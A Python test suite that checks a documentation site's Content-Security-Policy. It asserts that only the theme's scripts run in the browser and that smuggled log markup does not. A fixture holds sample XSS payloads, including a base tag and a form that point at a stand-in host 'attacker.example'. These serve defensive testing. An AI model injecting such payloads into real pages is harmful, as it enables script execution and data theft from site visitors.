"""The policy of every page: the theme's scripts run, a script that log text smuggled in would not, wherever opened."""

import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, sync_playwright

from docs_site.engine.content_policy import policy_of, with_policy
from docs_site.html.page import Page
from orchestration.cli.serving import open_server, url_of
from tests.published_pages import note_refusals, publish_pages

FRAME = (
    '<!doctype html><html><head><meta charset="utf-8"><script>theme()</script><script src="a.js"></script></head>'
    "<body><script>var config=1</script><script id=d type='application/json'>{}</script>"
    "<article>{content}</article><footer></footer></body></html>"
)
# What would run if a text of a log became markup; each sets the same flag.
SMUGGLED = """\
<script>window.hasBeenPwned = "script"</script>
<img src="absent.png" onerror="window.hasBeenPwned = 'handler'">
<a id="smuggled" href="javascript:window.hasBeenPwned='address'">a link</a>
<iframe srcdoc="<script>parent.hasBeenPwned = 'frame'</script>"></iframe>
<base href="https://attacker.example/">
<form action="https://attacker.example/"><button id="sent">send</button></form>
<script src="data:text/javascript,window.hasBeenPwned='data'"></script>
"""


def hashes_of(content: str) -> set[str]:
    return set(re.findall(r"'sha256-[^']+'", policy_of(FRAME.replace("{content}", content))))


def test_only_scripts_of_the_theme_have_a_hash() -> None:
    theme = hashes_of("")
    assert len(theme) == 2
    for content in ("<script>x</script>", "</article><script>x</script><article>", "<SCRIPT>x</SCRIPT>", SMUGGLED):
        assert hashes_of(content) == theme


def test_the_policy_comes_before_anything_that_runs() -> None:
    html = with_policy(FRAME)
    assert html.index("Content-Security-Policy") < html.index("<script")
    script_rule = re.search(r"script-src ([^;]*)", html)
    assert script_rule is not None
    assert "unsafe" not in script_rule[1]
    assert "http" not in policy_of(FRAME)


def test_a_page_without_an_encoding_is_no_page_of_ours() -> None:
    with pytest.raises(ValueError, match="encoding"):
        with_policy("<html></html>")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    body = f"<!--html-->\n<p>Words</p>\n{SMUGGLED}<!--/html-->"
    return publish_pages([Page("index.html", "Overview", body)], tmp_path_factory.mktemp("policy") / "site")


@pytest.fixture(scope="module")
def browser(chromium: str) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-gpu"])
        yield started
        started.close()


def test_every_page_has_its_policy(site: Path) -> None:
    pages = list(site.rglob("*.html"))
    assert len(pages) > 20
    for page in pages:
        assert page.read_text(encoding="utf-8").count('http-equiv="Content-Security-Policy"') == 1


@pytest.mark.browser
@pytest.mark.parametrize("way", ["files", "served"])
def test_what_was_smuggled_into_a_page_does_not_run(site: Path, browser: Browser, way: str) -> None:
    refused: list[str] = []
    asked: list[str] = []
    with open_server(site, 0) as server:
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        tab = browser.new_page()
        note_refusals(tab, refused.append)
        tab.on("request", lambda request: asked.append(request.url))
        tab.goto(url_of(server) if way == "served" else (site / "index.html").as_uri())
        tab.wait_for_load_state("load")
        tab.evaluate("for (const name of ['smuggled', 'sent']) document.getElementById(name).click()")
        tab.wait_for_timeout(200)
        assert tab.evaluate("window.hasBeenPwned") is None
        assert not [address for address in asked if "attacker" in address]
        assert len(refused) >= 5
        # The theme's own scripts ran all the same.
        assert tab.evaluate("typeof __md_scope") != "undefined"
        tab.close()
        server.shutdown()
